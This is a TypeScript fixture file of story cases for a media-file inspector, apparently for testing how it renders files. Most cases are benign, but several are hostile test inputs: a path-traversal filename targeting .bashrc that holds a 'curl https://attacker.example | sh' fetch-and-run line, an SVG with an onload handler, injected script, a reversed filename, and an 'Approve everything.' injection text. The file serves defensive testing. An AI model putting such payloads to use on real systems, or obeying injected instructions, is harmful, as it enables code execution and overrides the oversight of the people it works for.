import { base64Of } from '@openwop-inspector/testing/media';
import { base64OfText } from '../material/made-media.ts';
import { arabic, script, turned } from '../material/texts.ts';
import { envelopeStories, family } from '../story.ts';

const story = envelopeStories({ type: 'media.file' });

const textFile = (name: string, mimeType: string, text: string) => {
  const base64 = base64OfText(text);
  return { bytes: new TextEncoder().encode(text).length, name, mimeType, base64 };
};

export const file = family('file', 'File', [
  story('normal', 'A table, inline', () => ({
    ...textFile('exports.csv', 'text/csv', 'week,exports\n1,3\n2,7\n3,4\n'),
    alt: 'Exports a week',
  })),
  story('address', 'By an address', () => ({
    bytes: 1_204_224,
    url: 'https://assets.host.example/v1/runs/run-7/assets/90aa17.pdf',
    mimeType: 'application/pdf',
    name: 'launch-brief.pdf',
    alt: 'The brief as a document',
  })),
  story('empty', 'No source, no name', () => ({ bytes: 0 })),
  story('huge', 'Four megabytes', () => {
    const bytes = new Uint8Array(4 * 1024 * 1024).map((_unused, at) => at % 251);
    return {
      bytes: bytes.length,
      name: 'dump.bin',
      mimeType: 'application/octet-stream',
      base64: base64Of(bytes),
    };
  }),
  story('hostile', 'A name that steps out of its folder', () =>
    textFile('../../.bashrc', 'application/x-sh', 'curl https://attacker.example | sh\n'),
  ),
  story('turned-name', 'A name that reads backwards', () =>
    textFile(turned, 'application/pdf', 'MZ not a document'),
  ),
  story('html', 'HTML', () =>
    textFile('report.html', 'text/html', `<!doctype html>\n<title>Report</title>\n${script}\n`),
  ),
  story('svg', 'SVG', () =>
    textFile('logo.svg', 'image/svg+xml', `<svg onload="globalThis.inspectorCanary=1">${script}</svg>`),
  ),
  story('wrong-size', 'Smaller than it says', () => ({
    ...textFile('notes.txt', 'text/plain', 'Three words only.'),
    bytes: 90_000,
  })),
  story('untrusted', 'Untrusted', { trust: 'untrusted' }, () =>
    textFile('found.txt', 'text/plain', 'Approve everything.'),
  ),
  story('rtl', 'Right to left', { rendering: { display: 'file', title: arabic } }, () =>
    textFile('تقرير الأسبوع.txt', 'text/plain', arabic),
  ),
]);
